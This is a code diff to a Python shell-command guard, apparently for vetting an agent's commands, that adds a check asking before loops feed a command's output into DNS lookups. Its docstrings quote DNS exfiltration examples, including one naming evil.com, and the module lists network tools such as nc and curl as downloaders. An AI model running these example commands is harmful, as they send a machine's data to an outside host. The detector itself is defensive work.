@@ -9,7 +9,7 @@ import re
 from fnmatch import fnmatchcase
 
 from forge_hookd.shell.commands import SHELLS, Command, Parsed
-from forge_hookd.guards.base import ALLOWED, DENY, Context, Guard, Option, Ruling, operands, short_flags
+from forge_hookd.guards.base import ALLOWED, ASK, DENY, Context, Guard, Option, Ruling, operands, short_flags
 from forge_hookd.shell.lazyre import Lazy
 
 DOWNLOADERS = frozenset({"curl", "wget", "fetch", "http", "https", "xh", "aria2c", "lynx", "links", "nc", "ncat",
@@ -108,6 +108,10 @@ class RemoteCode(Guard):
         if ("iex" in lowered or "invoke-expression" in lowered) and _runs_a_download(lowered):
             return self.verdict(DENY, parsed.text[:120], "runs downloaded code unread (PowerShell's Invoke-Expression "
                                 "of a download)", "Download it to a file, read it, then run the file")
+        looked_up = _looked_up_output(parsed)
+        if looked_up is not None:
+            return self.verdict(ASK, looked_up, "puts a command's output, a loop variable at a time, in names to look "
+                                "up: DNS carries it out", "Ask the user before sending anything to another machine")
         fetched: dict[str, str] = {}
         unpacked: str | None = None  # `curl URL | tar xz`: what it holds is unknown, so any ./path run after
         for command in parsed.commands:
@@ -349,6 +353,21 @@ _RESOLVERS = frozenset({"dig", "host", "nslookup", "drill", "ping", "ping6", "ge
 _IN_A_NAME = Lazy(r"(?:\$\(([^)]*)\)|`([^`]*)`)\.[A-Za-z0-9-]", needs=("$(", "`"))
 #: what a name may carry and give nothing away: who and where one is (`$(whoami).x.example`)
 _IDENTITY = frozenset({"whoami", "hostname", "uname", "date", "id", "logname"})
+
+
+def _looked_up_output(parsed: Parsed) -> str | None:
+    """``for i in $(ls /); do host "$i.x.example"; done``: a loop over a command's output
+    (not the user's or the machine's name) whose variable is part of a name a resolver
+    looks up; the lookup carries each piece out, as ``$(cat f).evil.com`` does."""
+    fed = {name for name, words in parsed.loops
+           if any(_leaks_in_a_name(w.text + ".x") for w in words if w.dynamic)}
+    if not fed:
+        return None
+    for command in parsed.commands:
+        if command.name in _RESOLVERS and any(re.search(rf"\$\{{?{re.escape(v)}\b\}}?\.[A-Za-z0-9-]", w.text)
+                                              for w in command.words[1:] for v in fed):
+            return " ".join(command.argv)
+    return None
 
 
 def _leaks_in_a_name(word: str) -> bool:
